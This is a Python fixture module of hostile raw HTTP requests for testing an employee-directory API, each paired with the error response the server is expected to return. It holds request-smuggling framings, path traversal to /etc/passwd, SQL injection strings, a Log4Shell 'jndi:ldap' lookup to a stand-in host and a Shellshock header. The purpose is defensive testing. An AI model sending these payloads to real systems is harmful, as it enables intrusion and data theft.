"""Requests that nobody sends who means well, and what each is answered.

Each is bytes as they go over the wire, so that nothing that a client library would mend or refuse
gets mended or refused. Whatever can, has the mark in it, which no refusal may repeat.
"""

from __future__ import annotations

import gzip
import json
from collections.abc import Iterable, Iterator
from typing import Any, NamedTuple
from urllib.parse import quote

MARK = "Zebra"
BASE = "/api/v1"
DEPARTMENTS = f"{BASE}/departments"
EMPLOYEES = f"{BASE}/employees"
# What the directory holds when they come, and has to hold after them.
SEEDED = {"departments": ["Research"], "employees": ["Ada Lovelace", "Mary Shelley"]}
ADA, MARY, NOBODY = f"{EMPLOYEES}/1", f"{EMPLOYEES}/2", f"{EMPLOYEES}/999"

BIGINT = 2**63
JSON = "Content-Type: application/json"


class Answer(NamedTuple):
    """A status and, of a problem, its code."""

    status: int
    code: str = ""


OK = Answer(200)
NOT_WELL_FORMED = Answer(400, "bad_request")
MALFORMED = Answer(400, "malformed_json")
FORBIDDEN = Answer(403, "forbidden")
NOT_FOUND = Answer(404, "not_found")
NO_SUCH_METHOD = Answer(405, "method_not_allowed")
TOO_LARGE = Answer(413, "content_too_large")
TOO_LONG = Answer(414, "uri_too_long")
NOT_JSON = Answer(415, "unsupported_media_type")
EXPECTS = Answer(417, "expectation_failed")
INVALID = Answer(422, "invalid")
HEADERS_TOO_LARGE = Answer(431, "header_fields_too_large")
NOT_IMPLEMENTED = Answer(501, "not_implemented")


class Hostile(NamedTuple):
    """A request by its name, as bytes, and its answer; ``locked`` where tokens are asked for."""

    name: str
    sent: bytes
    answer: Answer
    locked: bool = False


def http(method: str, target: str, *headers: str, body: bytes | None = None) -> bytes:
    """Return a request that is itself well formed, however odd its parts are."""
    lines = [f"{method} {target} HTTP/1.1", "Host: localhost", "Connection: close", *headers]
    if body is not None:
        lines.append(f"Content-Length: {len(body)}")
    return "\r\n".join([*lines, "", ""]).encode("latin-1") + (body or b"")


def get(target: str, *headers: str) -> bytes:
    return http("GET", target, *headers)


def send(method: str, target: str, content: Any) -> bytes:
    """Return a request with a JSON body: as it is if it is bytes."""
    body = content if isinstance(content, bytes) else json.dumps(content).encode()
    return http(method, target, JSON, body=body)


def raw(line: str, *headers: str, body: bytes = b"") -> bytes:
    """Return a request of which nothing is added but the ends of lines."""
    return "\r\n".join([line, *headers, "", ""]).encode("latin-1") + body


def post_raw(*headers: str, body: bytes = b"") -> bytes:
    """Return a POST that says itself how long its body is, or does not."""
    return raw(f"POST {DEPARTMENTS} HTTP/1.1", "Host: localhost", JSON, *headers, body=body)


def each(
    what: str, requests: Iterable[tuple[str, bytes]], answer: Answer, locked: bool = False
) -> Iterator[Hostile]:
    """Yield requests that are all answered alike."""
    for name, sent in requests:
        yield Hostile(f"{what}: {name}", sent, answer, locked)


NAMED = json.dumps({"name": MARK}).encode()
CHUNKED = "Transfer-Encoding: chunked"
NOTHING = b"0\r\n\r\n"  # in chunks


def not_http() -> Iterator[Hostile]:
    """What is no request, or one that could be read in two ways."""
    line = f"GET {EMPLOYEES} HTTP/1.1"
    yield from each(
        "not HTTP",
        [
            ("words", b"Zebra\r\n\r\n"),
            ("a TLS hello", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03Zebra\r\n\r\n"),
            ("binary", bytes(range(256)) + b"\r\n\r\n"),
            ("no version", raw(f"GET {EMPLOYEES}?Zebra")),
            ("HTTP/2's preface", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
            ("a version to come", raw(f"GET {EMPLOYEES} HTTP/9.9")),
            ("a version that is none", raw(f"GET {EMPLOYEES} ZEBRA/1.1")),
            ("a version with a word", raw(f"GET {EMPLOYEES} HTTP/1.Zebra")),
            ("a method in lower case", raw(f"get {EMPLOYEES} HTTP/1.1", "Host: x")),
            ("a method with a #", raw(f"G#T {EMPLOYEES} HTTP/1.1", "Host: x")),
            ("a method of a thousand letters", raw("Z" * 1000 + " / HTTP/1.1", "Host: x")),
            ("a NUL in the line", raw("GET /Zebra\0 HTTP/1.1", "Host: x")),
            ("a header without a colon", raw(line, "Host: x", "Zebra")),
            ("a header without a name", raw(line, "Host: x", ": Zebra")),
            ("a blank before the colon", raw(line, "Host: x", "Zebra : 1")),
            ("a blank before the name", raw(line, "Host: x", " Zebra: 1")),
            ("a header on two lines", raw(line, "Host: x", "Zebra: 1", " 2")),
            ("a name with a bracket", raw(line, "Host: x", "Zeb(ra: 1")),
            ("a name with an umlaut", raw(line, "Host: x", "Z\xebbra: 1")),
            ("a name with a NUL", raw(line, "Host: x", "Zeb\0ra: 1")),
            ("a value with a NUL", raw(line, "Host: x", "X: Zeb\0ra")),
            ("a value with a carriage return", raw(line, "Host: x", "X: Zeb\rra: 1")),
            ("an empty line first", b"\r\n\r\n" + get("/Zebra")),
            ("line feeds alone", b"GET /Zebra HTTP/1.1\nHost: x\n\n"),
            ("two blanks", raw(f"GET  {ADA} HTTP/1.1", "Host: x")),
            ("tabs", raw(f"GET\t{ADA}\tHTTP/1.1", "Host: x")),
            ("no slash", raw("GET Zebra HTTP/1.1", "Host: x")),
            ("half an address", raw("GET http://[::1/Zebra HTTP/1.1", "Host: x")),
            ("chunks in 1.0", raw(f"POST {DEPARTMENTS} HTTP/1.0", JSON, CHUNKED, body=NOTHING)),
            ("a proxy's greeting", raw("PROXY TCP4 1.2.3.4 1.2.3.4 1 2", line, "Host: x")),
        ],
        NOT_WELL_FORMED,
    )  # fmt: skip
    yield from each(
        "too large",
        [
            ("two hundred headers", raw(line, "Host: x", *["X: Zebra"] * 200)),
            ("a header of 64 KiB", raw(line, "Host: x", "X: " + "Zebra" * 13_000)),
            ("a header's name of 64 KiB", raw(line, "Host: x", "Zebra" * 13_000 + ": x")),
            ("a cookie of 64 KiB", raw(line, "Host: x", "Cookie: a=" + "Zebra" * 13_000)),
        ],
        HEADERS_TOO_LARGE,
    )
    yield from each(
        "too long",
        [
            ("a path", get("/" + "Zebra" * 2_000)),
            ("a query", get(f"{EMPLOYEES}?q=" + "Zebra" * 2_000)),
            ("a line without end", b"GET /" + b"Zebra" * 2_000),
        ],
        TOO_LONG,
    )


def framing() -> Iterator[Hostile]:
    """Bodies whose length is said twice, wrongly, or not; a second request hides in some."""
    hidden = b"GET /Zebra HTTP/1.1\r\nHost: x\r\n\r\n"
    yield from each(
        "length",
        [
            (repr(value), post_raw(f"Content-Length: {value}", body=NAMED))
            for value in (
                "-1", "+17", "0x11", "1e1", "17.0", "1 7", "17,17", "17, 18", "17;", "Zebra", "",
                "\xb2", "9" * 5000, "1_7",
            )
        ],
        NOT_WELL_FORMED,
    )  # fmt: skip
    yield from each(
        "framing",
        [
            ("two lengths", post_raw("Content-Length: 17", "Content-Length: 0", body=NAMED)),
            ("length and chunks", post_raw("Content-Length: 5", CHUNKED, body=NOTHING + hidden)),
            ("chunks and length", post_raw(CHUNKED, "Content-Length: 5", body=NOTHING + hidden)),
            ("chunks twice", post_raw(CHUNKED, CHUNKED, body=NOTHING)),
            ("chunks of chunks", post_raw(f"{CHUNKED}, chunked", body=NOTHING)),
            ("chunks are not last", post_raw(f"{CHUNKED}, gzip", body=NOTHING)),
            ("a chunk of zebra", post_raw(CHUNKED, body=b"zebra\r\n{}\r\n" + NOTHING)),
            ("a chunk of negative length", post_raw(CHUNKED, body=b"-2\r\n{}\r\n0\r\n\r\n")),
            ("a chunk of 0x2", post_raw(CHUNKED, body=b"0x2\r\n{}\r\n0\r\n\r\n")),
            ("a chunk of +2", post_raw(CHUNKED, body=b"+2\r\n{}\r\n0\r\n\r\n")),
            ("a chunk of no length", post_raw(CHUNKED, body=b"\r\n{}\r\n0\r\n\r\n")),
            ("a chunk that is longer", post_raw(CHUNKED, body=b"1\r\n{}\r\n0\r\n\r\n")),
            ("a chunk that is cut off", post_raw(CHUNKED, body=b"ff\r\n{}")),
            ("no last chunk", post_raw(CHUNKED, body=b"2\r\n{}\r\n")),
            ("a chunk's line of line feeds", post_raw(CHUNKED, body=b"2\n{}\n0\n\n")),
            ("a body that is cut off", post_raw("Content-Length: 500", body=NAMED)),
        ],
        NOT_WELL_FORMED,
    )  # fmt: skip
    yield from each(
        "coding",
        [
            (coding, post_raw(f"Transfer-Encoding: {coding}", body=NOTHING))
            for coding in ("zebra", "xchunked", "chunke", '"chunked"', "chunked;q=1")
        ],
        NOT_IMPLEMENTED,
    )
    yield from each(
        "announced",
        [
            ("2 MiB and a byte", post_raw("Content-Length: 2097153")),
            ("a terabyte", post_raw("Content-Length: 1000000000000")),
        ],
        TOO_LARGE,
    )
    yield Hostile("a body that is not announced", post_raw(body=NAMED), MALFORMED)
    yield Hostile("expects: a zebra", post_raw("Expect: zebra", "Content-Length: 0"), EXPECTS)


def methods() -> Iterator[Hostile]:
    """What a resource cannot do."""
    wrong = {
        "/healthz": "POST PUT PATCH DELETE TRACE",
        "/readyz": "POST PUT DELETE",
        f"{BASE}/": "POST DELETE",
        f"{BASE}/swagger.json": "POST PUT",
        DEPARTMENTS: "PUT PATCH DELETE PROPFIND TRACE",
        EMPLOYEES: "PUT PATCH DELETE LOCK BREW",
        ADA: "POST PUT TRACE MOVE",
        f"{EMPLOYEES}/batch": "GET PUT DELETE",
        f"{BASE}/duplicates": "POST DELETE",
        f"{BASE}/merges/1/undo": "GET PUT",
    }
    yield from each(
        "method",
        [
            (f"{method} {path}", http(method, path, JSON, body=NAMED))
            for path, names in wrong.items()
            for method in names.split()
        ],
        NO_SUCH_METHOD,
    )
    yield Hostile(
        "method: one that an extra header asks for",
        http("PUT", ADA, "X-HTTP-Method-Override: DELETE"),
        NO_SUCH_METHOD,
    )


def paths() -> Iterator[Hostile]:
    """Places that are none, and ids that are none."""
    yield from each(
        "path",
        [
            (path, get(path))
            for path in (
                "/Zebra", "/.env", "/.git/config", "/wp-login.php?Zebra", "/etc/passwd",
                "/static/x", "/api", "/api/v2/employees", "/api/v1/Employees", "/api/v1/employees/",
                "//zebra.example/", "/api/v1//employees", "/api//v1/employees", "/api/v1/zebras",
                "/../../etc/passwd", "/api/v1/../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd",
                "/swaggerui/../../../etc/passwd", "/swaggerui/..%2f..%2fapi/errors.py",
                "/swaggerui/%2fetc%2fpasswd", "/swaggerui/..%5c..%5cZebra", "/swaggerui/%00",
                "/api/v1/employees%252f1", "/api/v1/employees/1%00",
                "/api/v1/employees/1%0d%0aZebra:1", "/api/v1/employees/%ff", "/api/v1/employees/%",
                "/api/v1/employees/%zz", "/api/v1/employees/1;Zebra", "/api/v1/employees/1/2",
                "/api/v1/employees/\\..\\1", "/api/v1/employees/%C3%A9", "/api/v1/duplicates/zebra",
                "/api/v1/{{7*7}}", "/api/v1/%24%7bZebra%7d", "/api/v1/employees/<script>",
            )
        ],
        NOT_FOUND,
    )  # fmt: skip
    ids = (
        "0", "-1", "+1", "1.0", "1e0", "0x1", "1_0", "%201", "1%20", "Zebra", "null", "1'--", "1,2",
        "%D9%A1", "%EF%BC%91", "%C2%B2", "NaN", "999", "9223372036854775807", "9223372036854775808",
        "9" * 4000,
    )  # fmt: skip
    yield Hostile("path: an umlaut as it is", get(f"{EMPLOYEES}/\xe9"), NOT_WELL_FORMED)
    yield Hostile("path: two slashes", get("//"), Answer(302))
    yield from each("id", [(id[:40], get(f"{EMPLOYEES}/{id}")) for id in ids], NOT_FOUND)
    huge = 10**30
    yield from each(
        "huge id",
        [
            ("changed", send("PATCH", f"{EMPLOYEES}/{huge}", {"title": MARK})),
            ("deleted", http("DELETE", f"{EMPLOYEES}/{huge}")),
            ("merged", http("POST", f"{BASE}/duplicates/employee/{huge}/merge")),
            ("undone", http("POST", f"{BASE}/merges/{huge}/undo")),
            ("of a department", get(f"{DEPARTMENTS}/{huge}")),
            ("of a department, deleted", http("DELETE", f"{DEPARTMENTS}/{huge}?cascade=true")),
        ],
        NOT_FOUND,
    )
    yield from each(
        "nobody",
        [
            ("changed", send("PATCH", NOBODY, {"title": MARK})),
            ("deleted", http("DELETE", NOBODY)),
            ("merged", http("POST", f"{BASE}/duplicates/employee/999/merge")),
            ("merged in no table", http("POST", f"{BASE}/duplicates/pg_class/1/merge")),
            ("undone", http("POST", f"{BASE}/merges/999/undo")),
        ],
        NOT_FOUND,
    )  # fmt: skip


def queries() -> Iterator[Hostile]:
    """Query strings that break a rule; and, after them, odd ones that break none."""
    wrong = (
        "limit=0", "limit=501", "limit=-1", "limit=+5", "limit=Zebra", "limit=", "limit",
        "limit=5.0", "limit=1e1", "limit=%20%205", "limit=0x5", "limit=%D9%A5", "limit=5%00",
        "limit=1&limit=1", f"limit={10**30}", f"limit={'9' * 3000}", "limit[]=5", "Limit=5",
        "limit=5;after=1", "after=-1", "after=Zebra", f"after={BIGINT}", "name=", "name=%20",
        "name=%00", "name=Zeb%00ra", "name=Zeb%0ara", "name=%E2%80%8B", f"name={'Zebra' * 52}",
        "q=", "q=%07", f"q={'Zebra' * 52}", "include=Zebra", "include=", "include=Duplicates",
        "stripes=1", "=Zebra", "__proto__=Zebra", "%00=1", "department_id=0", "department_id=Zebra",
        f"department_id={BIGINT}", "department_id=1&department_id=2", "id=1",
        "name=Zebra&name=Zebra", "order_by=id;DROP%20TABLE%20employee",
    )  # fmt: skip
    yield from each("query", [(q[:40], get(f"{EMPLOYEES}?{q}")) for q in wrong], INVALID)
    yield from each(
        "cascade",
        [
            (value, http("DELETE", f"{DEPARTMENTS}/1?cascade={value}"))
            for value in ("1", "yes", "TRUE", "", "true&cascade=true", "Zebra")
        ],
        INVALID,
    )
    groups = ("table=pg_class", "table=", "after=employee", "after=Zebra:1", "after=employee:-1",
              "table=employee&after=department:1", "limit=0", "stripes=1")  # fmt: skip
    yield from each("groups", [(q, get(f"{BASE}/duplicates?{q}")) for q in groups], INVALID)
    well = (
        "name=" + quote("Zebra' OR '1'='1"), "name=" + quote("Zebra'; DROP TABLE employee; --"),
        "name=" + quote("%s %(name)s {0} ${x}"), "name=%25", "name=%F0%9F%A6%93", "q=%25", "q=_",
        "q=%5C", "q=" + quote("' || pg_sleep(60) || '"), f"after={BIGINT - 1}",
        f"department_id={BIGINT - 1}", "name=%ff%fe", "", "&&&",
    )  # fmt: skip
    yield from each("well, however odd", [(q, get(f"{EMPLOYEES}?{q}")) for q in well], OK)


def bodies() -> Iterator[Hostile]:
    """What is not JSON, and JSON that is none of ours."""
    yield from each(
        "not JSON",
        [
            (repr(body[:30]), send("POST", EMPLOYEES, body))
            for body in (
                b"", b" ", b"Zebra", b"{", b"}", b'{"name": "Zebra"', b'{"name": "Zebra",}',
                b"{'name': 1}", b'{name: "Zebra"}', b'{"name": NaN}', b'{"name": Infinity}',
                b'{"name": -Infinity}', b'{"name": 01}', b'{"name": +1}', b'{"name": 0x1}',
                b'{"name": .5}', b"{} {}", b'{"name": "Zebra"} /* */',
                b'{"name": "A", "name": "Zebra"}', b"\xef\xbb\xbf{}", b'{"name": "\xff"}',
                b'{"name": "\xed\xa0\x80"}', b'{"name": "\xc0\xaf"}', b'{"name": "Zeb\nra"}',
                b'{"name": "Zeb\0ra"}', b'{"name": "\\x41"}', b"\x80\x04}q.", b"[" * 100_000,
                b'{"a":' * 100_000, b"9" * 5_000, b'{"name": ' + b"9" * 5_000 + b"}",
                '{"name": "Zebra"}'.encode("utf-16"), '{"name": "Zebra"}'.encode("utf-32"),
                gzip.compress(b'{"name": "Zebra"}', mtime=0), b"<name>Zebra</name>", b"name=Zebra",
                b"name: Zebra", b"nil", b"True", b"undefined",
            )
        ],
        MALFORMED,
    )  # fmt: skip
    yield from each(
        "not an object",
        [
            (name, send("POST", path, content))
            for path in (DEPARTMENTS, f"{EMPLOYEES}/batch")
            for name, content in (
                (f"{path} null", None),
                (f"{path} true", True),
                (f"{path} a number", 1e308),
                (f"{path} a string", MARK),
                (f"{path} a list", [{"name": MARK}]),
                (f"{path} nothing in it", {}),
            )
        ],
        INVALID,
    )
    yield from each(
        "type",
        [
            (kind or "none", http("POST", EMPLOYEES, *header, body=NAMED))
            for kind in (
                "", "text/plain", "text/html", "application/x-www-form-urlencoded",
                "application/xml", "multipart/form-data; boundary=Zebra", "application/json+Zebra",
                "application/jsonp", "application/merge-patch+json", "application/*", "*/*",
                "json", "Zebra", ";", "/", "application/octet-stream", "text/json",
                "application/json, text/plain",
            )
            for header in [[f"Content-Type: {kind}"] if kind else []]
        ],
        NOT_JSON,
    )  # fmt: skip


# Of each field: what it is instead of what it should be.
WRONG_VALUES: dict[str, list[Any]] = {
    "name": [
        None, True, 1, 1.5, [], {}, [MARK], {"$ne": ""}, "", " ", "\u2003", "\u200b", "\0",
        "Zeb\0ra", "Zeb\x07ra", "Zeb\x7fra", "Zeb\x85ra", "\ud800", "Zebra\udfff", "Zebra" * 52,
        "Z" * 100_000,
    ],
    "department_id": [
        None, True, "1", "Zebra", 1.0, 1.5, 1e308, 0, -1, BIGINT, 10**400, [1], {"id": 1}, 999,
    ],
    "department": [None, True, 1, [], {}, "", " ", "\0", "\ud800", "Zebra" * 52],
    "title": [True, 1, [], {}, "", " ", "\0", "\ud800", "Zebra" * 52],
    "email": [
        True, 1, [], {}, "", "Zebra", "Zebra@", "@zebra", "a@b\r\nBcc: c@d.example",
        "a@\0b.example", "Zebra" * 70 + "@zebra.example",
    ],
    "hired_on": [
        True, 1, 20200101, [], {}, "", "Zebra", "2020-02-30", "2020-13-01", "0000-01-01",
        "20200101", "2020-01-01T00:00:00", "10000-01-01", "-2020-01-01", "2020-W01-1",
        "\u0662\u0660\u0662\u0660-01-01",
    ],
    "manager_id": [True, "1", 1.5, 0, -1, BIGINT, 10**400, [1], {}, 999],
}  # fmt: skip
# What the server sets, and what it does not know.
NOT_THEIRS = [
    "id", "duplicate_of_id", "created_at", "updated_at", "creation_token", "employees", "Name",
    "name ", "__proto__", "__class__", "_schema", "stripes", "<Zebra>", "$where", "", "\0",
    "n\u0430me", "Zebra" * 1_000,
]  # fmt: skip


def fields() -> Iterator[Hostile]:
    """Employees of which one thing is wrong, created and changed."""
    well = {"name": MARK, "department_id": 1}
    for field, values in WRONG_VALUES.items():
        others = {"name": MARK} if field == "department" else well
        yield from each(
            f"{field} of a new employee",
            [(repr(v)[:40], send("POST", EMPLOYEES, {**others, field: v})) for v in values],
            INVALID,
        )
        yield from each(
            f"{field} of a known one",
            [(repr(v)[:40], send("PATCH", MARY, {field: v})) for v in values],
            INVALID,
        )
    yield from each(
        "not theirs",
        [(name[:40], send("POST", EMPLOYEES, {**well, name: 1})) for name in NOT_THEIRS],
        INVALID,
    )
    yield from each(
        "departments",
        [
            ("two", send("POST", EMPLOYEES, {**well, "department": MARK})),
            ("none", send("POST", EMPLOYEES, {"name": MARK})),
            ("two of one known", send("PATCH", ADA, {"department_id": 1, "department": "A"})),
            ("one's own manager", send("PATCH", ADA, {"manager_id": 1})),
        ],
        INVALID,
    )  # fmt: skip
    taken = Answer(409, "key_taken")
    yield Hostile("taken: a name", send("PATCH", MARY, {"name": " Ada  Lovelace\u2003"}), taken)
    in_use = http("DELETE", f"{DEPARTMENTS}/1")
    yield Hostile("in use: a department", in_use, Answer(409, "not_empty"))


def lists() -> Iterator[Hostile]:
    """Batches, all or nothing: each has an item that would be well by itself."""
    well = {"name": MARK, "department_id": 1}
    batches: dict[str, Any] = {
        "items are no list": {"items": well},
        "items are null": {"items": None},
        "an item is null": {"items": [well, None]},
        "an item is a list": {"items": [well, [well]]},
        "an item is a string": {"items": [well, MARK]},
        "an item is empty": {"items": [well, {}]},
        "an item has an unknown field": {"items": [well, {**well, "stripes": 1}]},
        "an item has a NUL": {"items": [well, {**well, "name": "Zeb\0ra"}]},
        "an item has a lone surrogate": {"items": [well, {**well, "title": "\ud800"}]},
        "an item is in no department": {"items": [well, {**well, "department_id": 999}]},
        "an item has nobody as manager": {"items": [well, {**well, "manager_id": 999}]},
        "an item has a huge id": {"items": [well, {**well, "department_id": BIGINT}]},
        "one too many": {"items": [well] * 1001},
        "a hundred thousand that are nothing": {"items": [None] * 100_000},
        "something beside the items": {"items": [well], "stripes": 1},
        "a list of lists": {"items": [[[[[[]]]]]]},
    }  # fmt: skip
    path = f"{EMPLOYEES}/batch"
    yield from each("batch", [(k, send("POST", path, v)) for k, v in batches.items()], INVALID)
    merge = f"{BASE}/duplicates/employee/1/merge"
    for value in (1, "true", None, [], {}):
        request = send("POST", merge, {"accept_homonyms": value})
        yield Hostile(f"merge: accept_homonyms is {value!r}", request, INVALID)
    yield Hostile("merge: nothing", http("POST", merge), Answer(409, "no_duplicates"))
    yield Hostile("merge: not JSON", send("POST", merge, b"Zebra"), MALFORMED)


def headers() -> Iterator[Hostile]:
    """Headers that lie, and that the service does not believe or does not know."""
    lies = (
        "X-Forwarded-For: Zebra", "X-Forwarded-Host: zebra.example",
        "X-Forwarded-Prefix: /Zebra", "X-Original-URL: /Zebra", "X-Rewrite-URL: /Zebra",
        "X-HTTP-Method-Override: DELETE", "X-Method-Override: DELETE", "Range: bytes=0-0",
        "Accept: Zebra/*;q=9", "Accept-Encoding: Zebra, *;q=0", "Accept-Language: \xff\xfe",
        "Cookie: session=Zebra; =;;; \xff", "Upgrade: h2c", "Forwarded: for=Zebra;host=Zebra",
        "Referer: javascript:Zebra", "User-Agent: ${jndi:ldap://zebra.example/a}",
        "User-Agent: () { :; }; echo Zebra", "Origin: null", "Content-Encoding: zebra", "TE: zebra",
        "Keep-Alive: timeout=-1", "Date: Zebra", "DNT: Zebra", "Pragma: Zebra", "Zebra_Zebra: 1",
        "Content-Type: Zebra", "Content-Length: 0",
    )  # fmt: skip
    yield from each("header", [(lie[:40], get(ADA, lie)) for lie in lies], OK)
    yield from each(
        "host",
        [
            ("another", raw(f"GET {ADA} HTTP/1.1", "Host: zebra.example")),
            ("in the path", raw(f"GET http://zebra.example{ADA} HTTP/1.1", "Host: localhost")),
            ("none", raw(f"GET {ADA} HTTP/1.1")),
            ("none that is one", raw(f"GET {ADA} HTTP/1.1", "Host: Zebra <>:x")),
        ],
        OK,
    )  # fmt: skip
    yield from each(
        "contradiction",
        [
            ("two hosts", get(ADA, "Host: zebra.example")),
            ("two schemes", get(ADA, "X-Forwarded-Proto: https", "X-Forwarded-Ssl: off")),
            ("another root", get(ADA, "SCRIPT_NAME: /Zebra")),
        ],
        NOT_WELL_FORMED,
    )


def conditions() -> Iterator[Hostile]:
    """Versions that are not the record's, and keys of requests that are none."""
    tags = ("", "Zebra", '"Zebra"', 'W/"Zebra"', '"', ",", '"a",,"', "W/*", "Zebra" * 1_000)
    yield from each(
        "if match",
        [
            (tag[:40], http("PATCH", MARY, JSON, f"If-Match: {tag}", body=b'{"title": "Zebra"}'))
            for tag in tags
        ],
        Answer(412, "precondition_failed"),
    )
    yield from each(
        "if none match", [(tag[:40], get(ADA, f"If-None-Match: {tag}")) for tag in tags], OK
    )
    keys = ("", " ", '"Zebra', 'Zebra"', '"Zeb\\ra"', "Zebra, Zebra", "Z\xebbra", "Zebra" * 52)
    well = b'{"name": "Zebra", "department_id": 1}'
    yield from each(
        "idempotency key",
        [
            (key[:40], http("POST", EMPLOYEES, JSON, f"Idempotency-Key: {key}", body=well))
            for key in keys
        ],
        INVALID,
    )


# Stand for tokens of these scopes, which are put in as the request is sent.
READER, WRITER = "<reader>", "<writer>"
NO_TOKEN = "rollcall_" + "0" * 64


def tokens() -> Iterator[Hostile]:
    """What is sent where tokens are asked for: without one, with others, and with weak ones."""
    nobody = [
        ("a record", get(ADA)),
        ("a list", get(EMPLOYEES)),
        ("the root", get("/")),
        ("the Swagger UI", get(f"{BASE}/")),
        ("the Swagger document", get(f"{BASE}/swagger.json")),
        ("a script", get("/swaggerui/swagger-ui.css")),
        ("nowhere", get("/Zebra")),
        ("no id", get(f"{EMPLOYEES}/Zebra")),
        ("duplicates", get(f"{BASE}/duplicates")),
        ("options", http("OPTIONS", ADA)),
        ("no such method", http("BREW", ADA)),
        ("a new record", send("POST", EMPLOYEES, {"name": MARK, "department_id": 1})),
        ("no JSON", send("POST", EMPLOYEES, b"Zebra")),
        ("a terabyte", http("POST", EMPLOYEES, JSON, "Content-Length: 1000000000000")),
        ("a change", send("PATCH", MARY, {"title": MARK})),
        ("a deletion", http("DELETE", MARY)),
        ("a cascade", http("DELETE", f"{DEPARTMENTS}/1?cascade=true")),
        ("an undo", http("POST", f"{BASE}/merges/1/undo")),
        ("a token in the query", get(f"{ADA}?access_token={READER}&token={READER}")),
        ("a token in a cookie", get(ADA, f"Cookie: token={READER}; Authorization={READER}")),
        ("one in other headers", get(ADA, f"X-Api-Key: {READER}", f"X-Authorization: {READER}")),
        ("a token that was for the proxy", get(ADA, f"Proxy-Authorization: Bearer {READER}")),
        ("a name with an underscore", get(ADA, f"HTTP_AUTHORIZATION: Bearer {READER}")),
    ]  # fmt: skip
    given = (
        "", "Bearer", "Bearer ", "Bearer Zebra", "Bearer \xff", "Bearer =", "Bearer null",
        "Basic !", "Basic", "Digest username=Zebra", "Bearer " + "Zebra" * 1_000, "Negotiate Zebra",
        READER, f"Token {READER}", f"Basic {READER}", f"Bearer {READER}x", f"Bearer x{READER}",
        f"Bearer {READER} {READER}", f"Bearer {READER},", f'Bearer "{READER}"', f"Bearer,{READER}",
        f"Bearer {NO_TOKEN}", f"Bearer {NO_TOKEN.upper()}", "Bearer rollcall_",
        "Basic WmVicmE6WmVicmE=", "Bearer ' OR 1=1 --", "Bearer ../../admin-token",
        f"Bearer {NO_TOKEN}, Bearer {READER}",
    )  # fmt: skip
    answer = Answer(401, "unauthorized")
    yield from each("no token", nobody, answer, locked=True)
    yield from each(
        "bad token",
        [(t[:170], get(ADA, f"Authorization: {t}")) for t in given],
        answer,
        locked=True,
    )
    reader, writer = (f"Authorization: Bearer {token}" for token in (READER, WRITER))
    yield from each(
        "weak token",
        [
            ("creates", http("POST", EMPLOYEES, JSON, reader, body=NAMED)),
            ("creates many", http("POST", f"{EMPLOYEES}/batch", JSON, reader, body=b"{}")),
            ("sends no JSON", http("POST", EMPLOYEES, JSON, reader, body=b"Zebra")),
            ("changes", http("PATCH", MARY, JSON, reader, body=b'{"title": "Zebra"}')),
            ("deletes", http("DELETE", MARY, reader)),
            ("deletes nobody", http("DELETE", NOBODY, reader)),
            ("deletes all", http("DELETE", f"{DEPARTMENTS}/1?cascade=true", reader)),
            ("brews", http("BREW", ADA, reader)),
            ("lists duplicates", get(f"{BASE}/duplicates", reader)),
            ("lists duplicates for a writer", get(f"{BASE}/duplicates", writer)),
            ("merges", http("POST", f"{BASE}/duplicates/employee/1/merge", writer)),
            ("undoes", http("POST", f"{BASE}/merges/1/undo", writer)),
        ],
        FORBIDDEN,
        locked=True,
    )
    yield Hostile("contradiction: two tokens", get(ADA, reader, writer), answer, locked=True)
    yield Hostile("well: a reader reads", get(ADA, reader), OK, locked=True)
    yield Hostile("well: in small letters", get(ADA, reader.lower()), OK, locked=True)


HOSTILE = [
    *not_http(), *framing(), *methods(), *paths(), *queries(), *bodies(), *fields(), *lists(),
    *headers(), *conditions(), *tokens(),
]  # fmt: skip
